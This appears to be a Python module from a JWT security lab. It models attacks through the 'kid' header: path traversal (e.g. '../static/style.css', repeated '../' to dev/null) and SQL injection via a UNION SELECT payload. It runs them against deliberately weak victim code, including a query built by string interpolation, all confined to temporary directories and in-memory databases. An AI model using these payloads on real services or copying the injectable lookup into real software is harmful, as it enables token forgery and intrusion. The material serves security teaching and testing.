"""A key's name used as a path and as a piece of SQL.

The directory and the table are real, made anew for every question and gone afterwards.
Everything weak in here is weak on purpose.
"""

from __future__ import annotations

import os
import sqlite3
import tempfile
from collections.abc import Callable, Mapping
from contextlib import closing
from functools import partial
from pathlib import Path
from typing import Any

from jwtlab.attacks import material, pyjwt
from jwtlab.attacks.model import Attack, Stage, Variant
from jwtlab.attacks.signature import same_bytes
from jwtlab.checks import Policy, Refusal
from jwtlab.errors import KeyRefused, kind
from jwtlab.jose import jws

Goal = Mapping[str, Any]

STYLE_SHEET = b"body { font-family: sans-serif }\n"
"""A file that the service hands out to everybody."""
LIMIT = 65_536
"""Bytes of a file, a row or a query, and not more."""
STOPPED_BY = ("key-found", "signature-valid")


def forge(goal: Goal, *, original: str, kid: str, secret: bytes) -> str:
    """Name a "key" whose bytes are known, and sign with those bytes."""
    text = material.signing_input(original, goal, kid=kid)
    return material.seal(text, material.hs256(secret, text))


def secret_from_file(kid: str) -> bytes:
    """⚠ The secret from the file ``keys/<kid>`` of a directory made for the occasion."""
    with tempfile.TemporaryDirectory(prefix="jwtlab-") as room:
        keys, public = Path(room, "keys"), Path(room, "static")
        keys.mkdir()
        public.mkdir()
        (keys / "lab-hs256").write_bytes(material.key("HS256").secret)
        (public / "style.css").write_bytes(STYLE_SHEET)
        try:
            return _content(keys / kid)
        except (OSError, ValueError) as error:
            raise Refusal(f"no file called {kid[:60]!r}", claim="kid", error=KeyRefused) from error


def _content(path: Path) -> bytes:
    """A file's bytes. The fault of the house is the path: endless devices and huge files are left alone."""
    if not path.is_file() and not path.samefile(os.devnull):
        raise OSError("neither a file nor the empty device")
    with path.open("rb") as file:
        octets = file.read(LIMIT + 1)
    if len(octets) > LIMIT:
        raise OSError("too long for a secret")
    return octets


def secret_from_table(kid: str) -> bytes:
    """⚠ The secret from an SQLite table, by a query glued together from text."""
    with closing(sqlite3.connect(":memory:")) as database:
        database.setlimit(sqlite3.SQLITE_LIMIT_LENGTH, LIMIT)
        database.set_progress_handler(lambda: True, 1_000_000)  # ends a query that does not end by itself
        database.execute("CREATE TABLE keys (kid TEXT, secret BLOB)")
        database.execute("INSERT INTO keys VALUES ('lab-hs256', ?)", [material.key("HS256").secret])
        try:
            row = database.execute(f"SELECT secret FROM keys WHERE kid = '{kid}'").fetchone()
        except (sqlite3.Error, sqlite3.Warning, ValueError) as error:
            raise Refusal(f"the database says: {error}", claim="kid", error=KeyRefused) from error
    if row is None:
        raise Refusal(f"no row called {kid[:60]!r}", claim="kid", error=KeyRefused)
    secret = row[0].encode() if isinstance(row[0], str) else row[0]
    if not isinstance(secret, bytes):
        raise Refusal(
            f"the row holds no text and no bytes, but {kind(secret)}", claim="kid", error=KeyRefused
        )
    return secret


def _victim(where: str, find: Callable[[str], bytes]) -> Policy:
    def holds(case: jws.Case) -> bool:
        secret = find(str(case.header.get("kid")))
        return same_bytes(material.hs256(secret, case.reading.signing_input), case.signature)

    return material.weak_signature(f"the signature matches the secret {where}", holds, "key-found")


def _stage(victim: Policy, kid: str, secret: bytes, goal: Goal) -> Stage:
    good = material.token("HS256")
    verifier = material.verifier(material.key("HS256"), algorithms=("HS256",))
    return Stage(good, {"original": good, "kid": kid, "secret": secret}, verifier, victim)


def _variant(name: str, title: str, victim: Policy, kid: str, secret: bytes) -> Variant:
    return Variant(name=name, title=title, stage=partial(_stage, victim, kid, secret), stopped_by=STOPPED_BY)


_FILES = _victim("in the file called kid", secret_from_file)

PATH = Attack(
    id="kid-path-traversal",
    title="The key's name as a path",
    knows="a file on the server whose content they know",
    story="The service keeps each secret in a file and opens the one that kid names. Mallory names a file that "
    "everybody can read, or an empty one, and signs with its content.",
    spec="RFC 8725 §3.10; RFC 7515 §4.1.4",
    cves=(),
    forge=forge,
    variants=(
        _variant("public-file", "a style sheet", _FILES, "../static/style.css", STYLE_SHEET),
        _variant("dev-null", "the empty /dev/null", _FILES, "../" * 16 + "dev/null", b""),
    ),
    code='kid = jwt.get_unverified_header(token)["kid"]\nsecret = (KEYS / kid).read_bytes()\n'
    'claims = jwt.decode(token, secret, algorithms=["HS256"])',
    pyjwt=partial(pyjwt.key_from, lambda header: secret_from_file(header["kid"])),
)

SQL = Attack(
    id="kid-sql-injection",
    title="The key's name as a piece of SQL",
    knows="that kid ends up in a query",
    story="The service looks secrets up with a query that it glues together from text. Mallory's kid ends the "
    "query early and adds a row of her own: the secret that she signed with.",
    spec="RFC 8725 §3.10; RFC 7515 §4.1.4",
    cves=(),
    forge=forge,
    variants=(
        _variant(
            "union",
            "UNION SELECT",
            _victim("in the row called kid", secret_from_table),
            "x' UNION SELECT 'mallory-knows-this-one';--",
            b"mallory-knows-this-one",
        ),
    ),
    code='kid = jwt.get_unverified_header(token)["kid"]\n'
    "row = db.execute(f\"SELECT secret FROM keys WHERE kid = '{kid}'\").fetchone()\n"
    'claims = jwt.decode(token, row[0], algorithms=["HS256"])',
    pyjwt=partial(pyjwt.key_from, lambda header: secret_from_table(header["kid"])),
)
